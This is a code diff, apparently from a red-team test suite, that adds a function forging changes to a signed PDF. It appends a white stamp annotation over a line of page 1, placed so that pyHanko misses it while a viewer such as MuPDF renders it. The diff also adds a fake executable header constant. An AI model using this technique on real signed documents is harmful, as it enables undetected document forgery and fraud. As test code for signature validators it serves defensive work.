@@ -163,6 +163,40 @@ def annotate_over(pdf: bytes, covered: str, written: str, work: Path) -> bytes:
     return path.read_bytes()
 
 
+def appended_unseen(signed: bytes, covered: str, painted: str, *, how: str = "no-eof") -> bytes:
+    """Page 1 changed by bytes appended where pyHanko does not look and a viewer does (red team, 2026-12-04): a white
+    stamp with `painted` over the line `covered`. How: "no-eof", a new revision whose "startxref" closes the file with
+    no "%%EOF" (pyHanko ends a file at its last line starting "%%EOF"); "far-startxref", the objects alone, then the
+    signed revision's own "startxref … %%EOF" so far from the end that MuPDF, finding no "startxref" in the last 1,024
+    bytes, rebuilds the file from its objects, the last written winning."""
+    import re
+
+    with pymupdf.open(stream=signed, filetype="pdf") as doc:
+        page_xref, size, root = doc[0].xref, doc.xref_length(), doc.pdf_catalog()
+        page = re.sub(r"\s+", " ", doc.xref_object(page_xref, compressed=True))
+    prev = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
+    x0, y0, x1, y1 = line_box(signed, covered)
+    width, height = x1 - x0 + 60, y1 - y0
+    annot, form = size, size + 1
+    stream = f"1 1 1 rg 0 0 {width:.1f} {height:.1f} re f BT 0 g /F1 12 Tf 2 {height / 2 - 4:.1f} Td ({painted}) Tj ET".encode()
+    objects = {
+        page_xref: (re.sub(r"/Annots\s*\[([^\]]*)\]", f"/Annots [\\1 {annot} 0 R]", page) if "/Annots" in page
+                    else page.rstrip()[:-2] + f"/Annots [{annot} 0 R]>>").encode(),
+        annot: f"<</Type/Annot/Subtype/Stamp/F 4/Rect[{x0:.1f} {y0:.1f} {x0 + width:.1f} {y1:.1f}]/AP<</N {form} 0 R>>>>".encode(),
+        form: (f"<</Type/XObject/Subtype/Form/BBox[0 0 {width:.1f} {height:.1f}]/Resources<</Font<</F1<</Type/Font"
+               f"/Subtype/Type1/BaseFont/Helvetica>>>>>>/Length {len(stream)}>>stream\n").encode() + stream + b"\nendstream",
+    }
+    out, offsets = bytearray(signed), {}
+    for number, body in objects.items():
+        offsets[number] = len(out)
+        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
+    if how == "far-startxref":
+        return bytes(out + f"startxref\n{prev}\n%%EOF\n".encode() + b" " * 1010)
+    xref = len(out)
+    out += b"xref\n" + b"".join(f"{n} 1\n{offsets[n]:010d} 00000 n \n".encode() for n in sorted(offsets))
+    return bytes(out + f"trailer\n<</Size {form + 1}/Root {root} 0 R/Prev {prev}>>\nstartxref\n{xref}\n".encode())
+
+
 # ---- attachments that hide what they are ---------------------------------------------------------
 EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 48 + b"PE\0\0" + b"\0" * 60
 
